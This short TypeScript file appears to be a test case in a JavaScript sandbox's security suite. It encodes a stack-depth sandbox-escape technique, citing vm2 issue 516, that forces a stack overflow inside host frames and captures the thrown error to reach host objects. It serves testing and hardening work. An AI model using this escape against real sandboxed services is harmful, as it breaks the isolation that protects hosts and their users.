import { attack } from '../attack.ts';

/** The stack is filled to a known depth first, so that the host's frames end exactly at the limit (vm2 issue 516). */
export const escape = attack({
	grants: ['direct'],
	source: `
		let most = 0;
		(function count() { most++; count.x = [1, 2, 3]; try { count(); } catch {} })();
		const at = (depth) => (depth === 0 ? direct.sum(1, 2, 3) : at(depth - 1) + 0);
		for (let left = 0; left < 400; left++) {
			try { at(Math.max(0, most - 200 + left)); } catch (error) {
				const got = loot(error);
				if (got) return got;
			}
		}
	`,
});
